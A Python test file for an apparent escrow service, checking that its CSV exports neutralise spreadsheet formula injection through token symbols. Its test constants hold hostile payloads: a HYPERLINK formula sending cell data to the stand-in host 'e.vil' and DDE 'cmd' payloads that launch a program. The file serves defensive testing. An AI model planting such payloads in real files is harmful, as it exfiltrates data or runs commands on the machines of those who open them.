"""CSV injection (OWASP): no cell of a CSV the service produces starts with `=`, `+`, `-`, `@`,
a tab or a carriage return; such a cell gets a single quote in front. The token symbol is the
outside value that reaches them (chosen by whoever deploys the token): a token whose
`symbol()` is a spreadsheet formula goes through the escrow statement, the account ledger of
the API and `escrow ledger` (the same function). In-process chain, SQLite."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from backend.chain.deploy import deploy_contract
from backend.chain.tokens import TokenInfo, TokenMetadata
from backend.escrows.csv_writer import FORMULA_STARTS, csv_text, neutralise
from backend.escrows.ledger_export import account_ledger, ledger_csv, ledger_json
from backend.escrows.statements import COLUMNS, movement_row, write_csv
from backend.index.ledger import Movement
from tests.api.support import Api, api_on
from tests.support import EscrowEnv

#: a formula that sends the next cell away when clicked; 30 characters (the service keeps at
#: most 32 of a symbol)
FORMULA = '=HYPERLINK("//e.vil/?"&A2,"$")'
#: one symbol per character OWASP names, and a plain one
SYMBOLS = {
    "equals": FORMULA,
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}
ADDRESS = "0x" + "12" * 20


def _parsed(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _no_cell_starts_a_formula(text: str) -> None:
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


@pytest.mark.parametrize("symbol", SYMBOLS.values(), ids=SYMBOLS.keys())
def test_a_formula_like_symbol_is_written_as_text(symbol: str) -> None:
    token = TokenInfo(ADDRESS, symbol, 6)  # type: ignore[arg-type]
    move = Movement("release", 1_500_000, ADDRESS, "0x" + "34" * 20, 0, None, 7, 0,
                    "0x" + "ab" * 32, 1_700_000_000)
    out = io.StringIO()
    write_csv([movement_row(1, move, token)], out)
    (row,) = _parsed(out.getvalue())
    assert row["token"] == "'" + symbol
    assert (row["amount"], row["amount_base_units"]) == ("1.500000", "1500000")  # numbers kept
    _no_cell_starts_a_formula(out.getvalue())


def test_plain_cells_are_unchanged_and_every_trigger_is_neutralised() -> None:
    for plain in ("TUSD", "", "1.500000", "0x12", "a=b", " =x", "'quoted"):
        assert neutralise(plain) == plain
    for start in FORMULA_STARTS:
        assert neutralise(start + "x") == "'" + start + "x"
    assert csv_text(["a", "b"], [["=1,2", 'x"y\nz']]) == 'a,b\r\n"\'=1,2","x""y\nz"\r\n'


@pytest.fixture
def api(env: EscrowEnv, tmp_path: Path) -> Iterator[Api]:
    with api_on(env, f"sqlite:///{tmp_path / 'escrow.db'}", tmp_path) as built:
        yield built


def test_a_token_named_like_a_formula_is_text_in_every_csv_export(api: Api) -> None:
    """A TestToken deployed with the symbol `=HYPERLINK(...)`: an escrow in it, settled, then
    its statement, its client's ledger (API) and `escrow ledger`'s CSV."""
    env = api.env
    token, _ = deploy_contract(env.w3, "TestToken", env.parties.deployer.address, "Evil",
                               FORMULA, 6)
    escrow_id = env.create_active(env.params((2_000_000,), token=token))
    env.deliver(escrow_id, 0)
    env.escrow.confirm(escrow_id, 0, 4, None, env.client)
    api.index()

    statement = api.http.get(f"/api/escrows/{escrow_id}/statement.csv")
    ledger = api.http.get(f"/api/accounts/{env.client}/ledger.csv")
    tokens = TokenMetadata(env.w3)
    with api.services.sessions() as session:
        rows = account_ledger(session, api.services.chain_id, tokens, env.client)
    cli = ledger_csv(rows)  # what `escrow ledger` prints
    assert statement.status_code == ledger.status_code == 200
    assert ledger.text == cli
    for text in (statement.text, ledger.text):
        assert text.splitlines()[0] == ",".join(COLUMNS)
        parsed = _parsed(text)
        assert parsed and {r["token"] for r in parsed} == {"'" + FORMULA}
        assert {r["token_address"] for r in parsed} == {token}
        assert "2.000000" in {r["amount"] for r in parsed}
        _no_cell_starts_a_formula(text)
    # JSON is no spreadsheet: `escrow ledger --json` keeps the symbol as the token says it
    assert {r["token"] for r in ledger_json(rows)} == {FORMULA}
